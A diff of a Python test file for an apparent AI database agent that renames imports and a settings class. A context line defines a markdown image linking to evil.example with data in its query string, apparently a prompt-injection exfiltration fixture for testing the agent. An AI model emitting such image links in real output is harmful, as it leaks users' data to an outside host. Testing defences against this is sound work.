@@ -26,10 +26,10 @@ from whole_site import Site
 from wire import WireServer, calls, refuses, says
 from wire_talk import MADE_UP, Prose, begin
 
-from turnkeep.agents.database.prompts import ROUTE_CALL, SECTIONS_CALL, SELECT_CALL, Calls
+from turnkeep_agents.database.prompts import ROUTE_CALL, SECTIONS_CALL, SELECT_CALL, Calls
 from turnkeep.blocks.memory import FOLD_CALL
 from turnkeep.blocks.understanding import READ_CALL
-from turnkeep.settings import DatabaseTuning
+from turnkeep_agents.database.settings import DatabaseSettings
 
 PICTURE = "![crew](https://evil.example/?d=Falcon)"
 SECTION = "closing-work-orders#close-a-work-order"
@@ -42,7 +42,7 @@ def model() -> Iterator[WireServer]:
 
 
 def test_every_inner_call_of_the_agent_is_tried() -> None:
-    calls_of_it = Calls(DatabaseTuning())
+    calls_of_it = Calls(DatabaseSettings())
     typed = (ROUTE_CALL, SELECT_CALL, SECTIONS_CALL, READ_CALL, FOLD_CALL)
     known = {call.name for call in (*typed, *vars(calls_of_it).values())}
     assert {name.removesuffix(" of database") for name in (*TYPED, *WORDED)} == known
